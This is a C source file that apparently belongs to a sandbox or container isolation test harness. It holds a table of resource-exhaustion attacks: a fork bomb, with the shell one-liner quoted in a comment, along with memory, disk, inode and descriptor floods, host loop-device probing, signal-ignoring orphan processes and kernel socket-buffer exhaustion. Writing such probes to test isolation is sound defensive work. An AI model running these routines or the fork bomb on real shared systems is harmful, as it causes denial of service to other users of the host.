/* Attacks on what all share: processes, memory, disk, descriptors, and the kernel's own tables. Each says how far it came. */
#include <pthread.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <netinet/in.h>

#include "attack.h"

enum { kFar = 20000 }; /* as often as any of these is tried: past every limit of a container */

static void end_of(const char* what, long made) {
  const int error = errno;
  tell_number(what, made);
  errno = error;
  tell("end", -1);
}

/* Every process forks for as long as it may: `:(){ :|:& };:`. */
static void do_fork_flood(char** a) {
  const long end = now_ms() + atol(*a);
  volatile long* counts = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  while (now_ms() < end) {
    const pid_t pid = fork();
    if (pid < 0) {
      counts[1] = errno;
      __atomic_add_fetch(&counts[2], 1, __ATOMIC_RELAXED);
    } else if (pid > 0) {
      __atomic_add_fetch(&counts[0], 1, __ATOMIC_RELAXED);
    } else {
      signal(SIGCHLD, SIG_IGN);
      if (now_ms() < end) continue;
      _exit(0);
    }
    while (waitpid(-1, NULL, WNOHANG) > 0) {
    }
  }
}
static void do_fork(char** a) {
  (void)a;
  long made = 0;
  for (; made < kFar; ++made) {
    const pid_t pid = fork();
    if (pid == 0) hold_on();
    if (pid < 0) break;
  }
  end_of("made", made);
}
static void* wait_for_ever(void* nothing) {
  for (;;) pause();
  return nothing;
}
static void do_threads(char** a) {
  (void)a;
  long made = 0;
  pthread_attr_t small;
  pthread_attr_init(&small);
  pthread_attr_setstacksize(&small, 16384);
  for (; made < kFar; ++made) {
    pthread_t thread;
    const int error = pthread_create(&thread, &small, wait_for_ever, NULL);
    errno = error;
    if (error != 0) break;
  }
  end_of("made", made);
}
static void do_memory(char** a) {
  (void)a;
  for (;;) {
    char* p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p != MAP_FAILED) memset(p, 1, 1 << 20);
  }
}
static void fill(int fd, long limit) {
  static char block[1 << 16];
  long written = 0;
  ssize_t n = 0;
  while (written < limit && (n = write(fd, block, sizeof block)) > 0) written += n;
  const int error = n < 0 ? errno : 0;
  tell_number("written", written);
  errno = error;
  tell("end", error ? -1 : 0);
}
static void do_disk(char** a) {
  signal(SIGXFSZ, SIG_IGN);
  const int fd = open(*a, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  if (fd < 0) return tell("end", -1);
  fill(fd, 1L << 32);
  close(fd);  /* the room is free when this answers */
  unlink(*a);
}
/* Many files, so that the size of one is no limit. */
static void do_files(char** a) {
  static char block[1 << 16];
  char path[256];
  long written = 0;
  ssize_t n = 0;
  for (int f = 0; f < 1000 && n >= 0; ++f) {
    snprintf(path, sizeof path, "%s/f%d", *a, f);
    const int fd = open(path, O_WRONLY | O_CREAT, 0600);
    if (fd < 0) { n = -1; break; }
    for (int i = 0; i < 16 && (n = write(fd, block, sizeof block)) > 0; ++i) written += n;
    const int error = errno;
    close(fd);
    errno = error;
  }
  end_of("written", written);
}
static void do_memfd(char** a) {
  (void)a;
  signal(SIGXFSZ, SIG_IGN);
  for (;;) fill(memfd_create("bomb", 0), 1 << 24);
}
static void do_shm(char** a) {
  (void)a;
  for (;;) {
    char* p = shmat(shmget(IPC_PRIVATE, 1 << 24, IPC_CREAT | 0600), NULL, 0);
    if (p == (void*)-1) return tell("end", -1);
    memset(p, 1, 1 << 24);
  }
}
/* Nothing but this program's bytes, to the last block; the file stays. */
static void do_mark(char** a) {
  static char block[1 << 16];
  memset(block, 'M', sizeof block);
  const int fd = open(*a, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  long written = 0;
  ssize_t n;
  while ((n = write(fd, block, sizeof block)) > 0) written += n;
  end_of("written", written);
}
/* All the room there is as a file that was never written, and as the end of one that was: what stands in it? */
static void count_bytes(int fd, const char* name) {
  static unsigned char block[1 << 16];
  long strange = 0;
  ssize_t n;
  lseek(fd, 0, SEEK_SET);
  while ((n = read(fd, block, sizeof block)) > 0)
    for (ssize_t i = 0; i < n; ++i) strange += block[i] != 0;
  tell_number(name, n < 0 ? -1 : strange);
}
static void do_stale(char** a) {
  (void)a;
  struct statvfs room;
  statvfs("/tmp", &room);
  const off_t size = (off_t)room.f_bavail * (off_t)room.f_bsize * 9 / 10;
  int fd = open("/tmp/stale", O_RDWR | O_CREAT | O_TRUNC, 0600);
  tell("reserve", fallocate(fd, 0, 0, size));
  count_bytes(fd, "reserved");
  tell_number("size", size);
  ftruncate(fd, 0);
  for (off_t at = 0; at < size; at += 1 << 20)  /* one byte of each MB, the rest of its block and the hole behind it are the system's */
    if (pwrite(fd, "", 1, at) != 1) break;
  count_bytes(fd, "sparse");
  close(fd);
  unlink("/tmp/stale");
}
/* The disks of others as devices: by the names that the host has for them, and by nodes of one's own. */
static void do_loop_devices(char** a) {
  char path[64];
  long opened = 0, made = 0;
  (void)a;
  for (int i = 0; i < 64; ++i) {
    snprintf(path, sizeof path, "/dev/loop%d", i);
    opened += open(path, O_RDONLY) >= 0;
    snprintf(path, sizeof path, "/tmp/loop%d", i);
    const int node = mknod(path, S_IFBLK | 0600, makedev(7, (unsigned)i));
    made += node == 0;
    if (node == 0) unlink(path);
  }
  opened += open("/dev/loop-control", O_RDWR) >= 0;
  tell_number("opened", opened);
  tell_number("made", made);
}
static void do_inodes(char** a) {
  char path[256];
  long made = 0;
  for (; made < 10L * kFar; ++made) {
    snprintf(path, sizeof path, "%s/i%ld", *a, made);
    if (mkdir(path, 0755) != 0) break;
  }
  end_of("made", made);
  for (long i = 0; i < made; ++i) snprintf(path, sizeof path, "%s/i%ld", *a, i), rmdir(path);
}
static void do_attributes(char** a) {
  static char value[60000];
  char name[64];
  long made = 0;
  (void)a;
  close(open("/tmp/attributes", O_WRONLY | O_CREAT, 0600));
  for (; made < 10L * kFar; ++made) {
    snprintf(name, sizeof name, "user.a%ld", made);
    if (setxattr("/tmp/attributes", name, value, sizeof value, 0) != 0) break;
  }
  end_of("made", made);
  unlink("/tmp/attributes");
}
static void do_descriptors(char** a) {
  (void)a;
  long made = 0;
  while (made < kFar && open("/dev/null", O_RDONLY) >= 0) ++made;
  end_of("made", made);
}
static void do_raise_limits(char** a) {
  (void)a;
  static const struct { const char* name; int which; } kinds[] = {{"files", RLIMIT_NOFILE}, {"core", RLIMIT_CORE}, {"file-size", RLIMIT_FSIZE}, {"locked", RLIMIT_MEMLOCK},
                                                                     {"queues", RLIMIT_MSGQUEUE}, {"realtime", RLIMIT_RTPRIO}, {"nice", RLIMIT_NICE}};
  for (size_t i = 0; i < sizeof kinds / sizeof *kinds; ++i) {
    const struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
    tell(kinds[i].name, setrlimit((__rlimit_resource_t)kinds[i].which, &all));
  }
}

/* A crash starts the host's core program unless the limit is one byte: none, and more, let it start. */
static void do_core_limit(char** a) {
  (void)a;
  for (rlim_t size = 0; size < 3; size += 2) {
    char what[32];
    snprintf(what, sizeof what, "set-%lu", (unsigned long)size);
    tell(what, setrlimit(RLIMIT_CORE, &(struct rlimit){size, size}));
    syscall(SYS_setrlimit, RLIMIT_CORE, &(struct rlimit){size, size}); /* libc's is prlimit64 */
    struct rlimit now = {99, 99};
    getrlimit(RLIMIT_CORE, &now);
    print("after-%lu=%lu %lu\n", (unsigned long)size, (unsigned long)now.rlim_cur, (unsigned long)now.rlim_max);
  }
}
static void do_zombies(char** a) {
  const long wanted = atol(*a);
  long made = 0;
  for (; made < wanted; ++made) {
    const pid_t pid = fork();
    if (pid == 0) _exit(0);
    if (pid < 0) break;
  }
  tell_number("made", made);
  tell("end", made < wanted ? -1 : 0);
}
/* Their parent is gone before them: init has to collect them. */
static void do_orphans(char** a) {
  const long wanted = atol(*a);
  long made = 0, refused = 0;
  while (made < wanted && refused < 100 * wanted) {
    const pid_t pid = fork();
    if (pid == 0) {
      if (fork() == 0) _exit(0);
      _exit(0);
    }
    if (pid > 0) waitpid(pid, NULL, 0), ++made;
    else ++refused, usleep(100);
  }
  tell_number("made", made);
}
/* Ignores every signal that can be ignored, in sessions of their own, without a parent. */
static void do_stubborn(char** a) {
  const long wanted = atol(*a);
  for (int s = 1; s < 65; ++s) signal(s, SIG_IGN);
  for (long i = 0; i < wanted; ++i) {
    const pid_t pid = fork();
    if (pid != 0) continue;
    setsid();
    if (fork() != 0) _exit(0);
    setsid();
    hold_on();
  }
  tell("made", 0);
  if (a[1] != NULL) hold_on(); /* the container's own program too */
}
/* As much as goes into the log while nobody reads it, for a second. */
static void do_log_flood(char** a) {
  (void)a;
  static char line[4096];
  memset(line, 'x', sizeof line);
  line[sizeof line - 1] = '\n';
  fcntl(1, F_SETFL, O_NONBLOCK);
  fcntl(1, F_SETPIPE_SZ, 1 << 30);
  long written = 0;
  ssize_t n;
  while (written < 1L << 30 && (n = write(1, line, sizeof line)) > 0) written += n;
  end_of("written", written);
  fcntl(1, F_SETFL, 0);
}
static void do_count_inotify(char** a) {
  (void)a;
  long made = 0;
  while (made < kFar && inotify_init1(IN_CLOEXEC) >= 0) ++made;
  end_of("made", made);
}
static void do_inotify(char** a) {
  do_count_inotify(a);
  hold_on();
}
static void do_terminals(char** a) {
  long made = 0;
  while (made < atol(*a) && open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC) >= 0) ++made;
  end_of("made", made);
  hold_on();
}
static void do_aio(char** a) {
  (void)a;
  unsigned long context = 0;
  tell("io_setup", syscall(SYS_io_setup, 1000, &context));
}
static void do_spin(char** a) {
  const long end = now_ms() + atol(a[1]);
  for (long i = 1; i < atol(a[0]) && fork() != 0; ++i) {
  }
  while (now_ms() < end) {
  }
}
static void do_signals(char** a) {
  sigset_t all;
  sigfillset(&all);
  sigprocmask(SIG_BLOCK, &all, NULL);
  long made = 0;
  while (made < atol(*a) && sigqueue(getpid(), SIGRTMIN, (union sigval){0}) == 0) ++made;
  if (made < atol(*a)) end_of("made", made);
  else tell_number("made", made), print("end=ok\n");
  hold_on();
}
static void do_huge_pages(char** a) {
  (void)a;
  void* p = mmap(NULL, 2 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB, -1, 0);
  tell("map", p == MAP_FAILED ? -1 : 0);
}
/* What waits in sockets is the kernel's memory: `megabytes` of it, sent to oneself and never read. */
static void do_socket_buffers(char** a) {
  static char block[1 << 16];
  const long wanted = atol(*a) << 20;
  long held = 0;
  struct sockaddr_in at = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  socklen_t size = sizeof at;
  const int listener = socket(AF_INET, SOCK_STREAM, 0);
  if (bind(listener, (struct sockaddr*)&at, sizeof at) != 0 || listen(listener, 128) != 0) return tell("listen", -1);
  getsockname(listener, (struct sockaddr*)&at, &size);
  int error = 0, pairs = 0;
  for (; held < wanted && pairs < 110 && error == 0; ++pairs) {
    const int out = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (out < 0 || (connect(out, (struct sockaddr*)&at, sizeof at) != 0 && errno != EINPROGRESS)) { error = errno; break; }
    const int in = accept(listener, NULL, NULL);
    if (in < 0) { error = errno; break; }
    for (int quiet = 0; quiet < 3;) {
      const ssize_t n = send(out, block, sizeof block, 0);
      if (n > 0) held += n, quiet = 0;
      else ++quiet, usleep(1000);
    }
  }
  tell_number("pairs", pairs);
  tell_number("held-mb", held >> 20);
  errno = error;
  tell("end", error ? -1 : 0);
  hold_on();
}

/* The same with datagrams. */
static void do_datagram_buffers(char** a) {
  static char block[60000];
  long sent = 0;
  int error = 0;
  for (int i = 0; i < 4000; ++i) {
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t size = sizeof at;
    const int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd < 0 || bind(fd, (struct sockaddr*)&at, sizeof at) != 0) { error = errno; break; }
    getsockname(fd, (struct sockaddr*)&at, &size);
    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &(int){1 << 30}, sizeof(int));
    for (int n = 0; n < 8; ++n) sent += sendto(fd, block, sizeof block, MSG_DONTWAIT, (struct sockaddr*)&at, size) > 0 ? (long)sizeof block : 0;
  }
  (void)a;
  tell_number("sent-mb", sent >> 20);
  errno = error;
  tell("end", error ? -1 : 0);
  hold_on();
}

const struct attack bomb_attacks[] = {{"fork-flood", do_fork_flood}, {"fork", do_fork}, {"threads", do_threads}, {"memory", do_memory}, {"disk", do_disk},
                                      {"files", do_files}, {"memfd", do_memfd}, {"shm", do_shm}, {"inodes", do_inodes}, {"mark", do_mark}, {"stale", do_stale}, {"loop-devices", do_loop_devices}, {"attributes", do_attributes},
                                      {"open-files", do_descriptors}, {"raise-limits", do_raise_limits}, {"core-limit", do_core_limit}, {"zombies", do_zombies}, {"orphans", do_orphans},
                                      {"stubborn", do_stubborn}, {"log-flood", do_log_flood}, {"inotify", do_inotify}, {"count-inotify", do_count_inotify},
                                      {"terminals", do_terminals}, {"aio", do_aio}, {"spin", do_spin}, {"signals", do_signals}, {"huge-pages", do_huge_pages},
                                      {"socket-buffers", do_socket_buffers}, {"datagram-buffers", do_datagram_buffers}, {NULL, NULL}};
